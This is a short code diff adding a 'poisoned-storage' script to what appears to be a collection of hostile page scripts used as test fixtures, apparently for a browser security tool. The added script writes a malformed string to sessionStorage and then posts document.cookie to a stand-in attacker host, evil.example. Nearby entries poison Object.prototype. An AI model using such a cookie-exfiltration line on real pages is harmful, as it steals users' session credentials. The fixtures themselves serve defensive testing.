@@ -945,6 +945,15 @@ export const MAIN_WORLD_SCRIPTS = {
   mine = setInterval(clearAll, 5);
 })();`,
 
+  /**
+   * Stores a value with half a surrogate pair (no UTF-8 for it: encodeURIComponent throws on it), then posts
+   * the cookie in a body to a URL that carries none of the page's secrets.
+   */
+  'poisoned-storage': `(() => {
+  sessionStorage.setItem('saq-poison', 'AAAAAAAA\\uD800');
+  fetch('https://evil.example/poisoned-storage', { method: 'POST', body: document.cookie, mode: 'no-cors' }).catch(() => {});
+})();`,
+
   'poisoned-then': `(() => {
   Object.defineProperty(Object.prototype, 'then', {
     configurable: true,
